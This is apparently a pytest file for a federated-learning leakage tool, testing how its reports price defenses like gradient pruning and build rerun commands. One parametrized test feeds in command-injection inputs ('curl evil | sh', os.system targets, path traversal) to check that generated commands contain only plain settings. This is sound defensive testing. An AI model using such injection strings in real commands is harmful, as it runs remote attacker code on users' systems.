"""What a defense costs: what a run knows, and commands that measure the rest and can be run."""

import shlex
from dataclasses import replace

import pytest

from flwr_leakage.records import LeakageRecord
from flwr_leakage.report.advice import advise
from flwr_leakage.report.index import Index
from flwr_leakage.report.remedies import remedies, what_it_costs
from flwr_leakage.simulation.config import compose

CHANGE = LeakageRecord("r", 1, 0, -1, "what_if", "half/relative_change", 0.5)
PSNR = LeakageRecord("r", 1, 0, 0, "what_if", "half/psnr", 11.0)
ACCURACY = LeakageRecord("r", 2, -1, -1, "utility", "test_accuracy", 0.9)
PRUNING = {"_target_": "flwr_leakage.defenses.GradientPruning", "prune_ratio": 0.5}


def price(*records, is_at_risk=True, **metadata):
    index = Index(records)
    return what_it_costs(index, remedies(index, metadata), metadata, is_at_risk)


def composed(command, tmp_path):
    """The configs of what a sweep's command would run first, as Hydra reads it."""
    words = [word for word in shlex.split(command) if "=" in word and "hydra" not in word]
    return compose([word.replace("seed=0,1,2", "seed=0") for word in words], str(tmp_path))


def test_a_defense_that_was_tried_has_its_change_and_commands_for_its_price(tmp_path):
    command = (
        "python simulations/run.py num_rounds=2 hydra.run.dir=/x seed=7 'partition.sizes=[1,2]' "
        "what_if.half.prune_ratio=0.5"
    )
    config = {
        "what_if": {"half": PRUNING},
        "choices": {"defense": "none", "defense@what_if.half": "pruning"},
    }
    [step] = price(ACCURACY, CHANGE, PSNR, config=config, command=command)
    assert step.text.startswith("Test accuracy was 90.0 % after round 2 without a defense. What it")
    assert step.fold.startswith(
        "The commands that measure the price in accuracy, as mean and spread"
    )
    bare, half, both = step.commands
    assert both == "flwr-leakage compare price -o price.html"
    assert bare.startswith("flwr-leakage run -m defense=none seed=0,1,2 what_if=null num_rounds=2 ")
    assert bare.endswith("hydra.sweep.dir=price/none")
    found = composed(half, tmp_path)
    assert found["defense"]["prune_ratio"] == 0.5 and found["what_if"] is None
    assert found["partition"]["sizes"] == [1, 2] and found["num_rounds"] == 2
    assert composed(bare, tmp_path)["defense"]["_target_"].endswith("NoDefense")


def test_a_defended_run_asks_for_one_without(tmp_path):
    config = {"defense": PRUNING, "choices": {"defense": "pruning"}}
    [step] = price(ACCURACY, is_at_risk=False, defense="pruning", config=config)
    assert (
        "90.0 % after round 2 under pruning. To learn what pruning costs, repeat the" in step.text
    )
    assert composed(step.commands[1], tmp_path)["defense"]["prune_ratio"] == 0.5


def test_the_commands_give_an_attack_more_time_that_was_cut_off():
    stopped = LeakageRecord("r", 1, 0, -1, "attack", "stopped_by_budget", 1.0)
    config = {"choices": {}, "attack": {"max_seconds": 120}, "server": {"attack_max_seconds": 8}}
    command = "flwr-leakage run server.attack_max_seconds=8"
    [step] = price(stopped, config=config, command=command)
    assert step.commands[0].endswith("what_if=null server.attack_max_seconds=null")
    [step] = price(config=config, command=command)
    assert step.commands[0].endswith("what_if=null server.attack_max_seconds=8")


def test_time_that_only_trials_of_a_defense_had_too_little_of_changes_no_command_without_them():
    over = LeakageRecord("r", 1, 0, -1, "what_if", "half/stopped_by_budget", 1.0)
    config = {
        "what_if": {"half": PRUNING}, "attack": {"max_seconds": 120},
        "choices": {"defense": "none", "defense@what_if.half": "pruning"},
        "server": {"attack_max_seconds": 30, "what_if_max_seconds": 4},
    }  # fmt: skip
    command = "flwr-leakage run server.attack_max_seconds=30 server.what_if_max_seconds=4"
    [step] = price(CHANGE, PSNR, over, config=config, command=command)
    for each in step.commands[:2]:
        assert " what_if=null server.attack_max_seconds=30 hydra.sweep.dir=" in each
    leak = [replace(PSNR, kind="metric", name="psnr", value=60.0),
            replace(PSNR, kind="metric", name="blind_psnr", value=12.0),
            replace(PSNR, name="half/blind_psnr", value=12.0)]  # fmt: skip
    index, metadata = Index([CHANGE, PSNR, over, *leak]), {"config": config, "command": command}
    found = advise(index, metadata, remedies(index, metadata))
    [helps] = [step for step in found.steps if step.term == "Defenses tried"]
    assert helps.commands == (
        "flwr-leakage run server.attack_max_seconds=30 server.what_if_max_seconds=null",
    )
    assert "the time that it has without one, 30 CPU seconds an update" in helps.text
    assert any("(server.what_if_max_seconds=null)" in line.text for line in found.lines)


def test_without_a_defense_that_was_tried_two_are_named():
    [step] = price(config={"choices": {}}, command="flwr-leakage run model=lenet,mlp ~tracker")
    assert step.text.startswith("No defense was tried on copies of the updates")
    (sweep,) = step.commands
    assert sweep.startswith("flwr-leakage run -m defense=none,pruning,gaussian seed=0,1,2")
    assert price(is_at_risk=False) == []


def test_a_setting_of_a_sweep_is_that_of_the_run():
    config = {"choices": {"model": "mlp"}, "num_rounds": 4}
    [step] = price(config=config, command="flwr-leakage run -m model=lenet,mlp num_rounds=2,4")
    assert " model=mlp num_rounds=4" in step.commands[0]


def test_a_sweep_over_defenses_has_the_price_already():
    [step] = price(ACCURACY, config={}, command="flwr-leakage run -m defense=none,pruning")
    assert "comparison.html, in the folder of the sweep" in step.text and not step.commands


@pytest.mark.parametrize("config", [None, {}, {"choices": 3}])
def test_without_a_known_config_no_command_is_made_up(config):
    [step] = price(CHANGE, PSNR, config=config, command="python train.py 'unclosed")
    assert "flwr-leakage compare RUN RUN" in step.text and step.commands == ()


@pytest.mark.parametrize(
    "changed",
    [
        {"command": "x run 'attack.x={_target_: os.system}'"},
        {"command": "x run +attack.x._target_=os.system"},
        {"command": "x run '; curl evil|sh=1'"},
        {"command": "x run +attack=../../tmp/evil"},
        {"command": "x run 'model=${oc.env:HOME}'"},
        {"option": "pruning; curl evil | sh"},
        {"node": {"; curl evil | sh #": 1}},
        {"name": "half; curl evil | sh"},
    ],
)
def test_a_command_that_people_copy_holds_plain_settings_only(changed):
    name = changed.get("name", "half")
    node = {**PRUNING, **changed.get("node", {})}
    option = changed.get("option", "pruning")
    choices = {"defense": "none", f"defense@what_if.{name}": option}
    records = [replace(r, name=r.name.replace("half", name)) for r in (CHANGE, PSNR)]
    config = {"what_if": {name: node}, "choices": choices}
    [step] = price(ACCURACY, *records, config=config, command=changed.get("command", "x run"))
    assert not step.commands
    assert "Train once with a defense and once without" in step.text


def test_a_command_that_people_copy_sends_nothing_elsewhere():
    config = {"what_if": {"half": PRUNING}, "choices": {"defense@what_if.half": "pruning"}}
    command = "x run tracker=wandb tracker.entity=evil client.folder=/x num_rounds=2"
    [step] = price(ACCURACY, CHANGE, PSNR, config=config, command=command)
    assert step.commands[0].endswith("what_if=null num_rounds=2 hydra.sweep.dir=price/none")


@pytest.mark.parametrize(("psnr", "told"), [(60.0, True), (4.0, False)])
def test_where_a_defense_lets_samples_show_a_stronger_one_is_among_the_commands(psnr, told):
    under = [replace(PSNR, value=psnr), replace(PSNR, name="half/blind_psnr", value=10.0)]
    config = {"what_if": {"half": PRUNING}, "choices": {"defense@what_if.half": "pruning"}}
    [step] = price(ACCURACY, CHANGE, *under, config=config, command="x run")
    assert any("defense=gaussian" in command for command in step.commands) == told
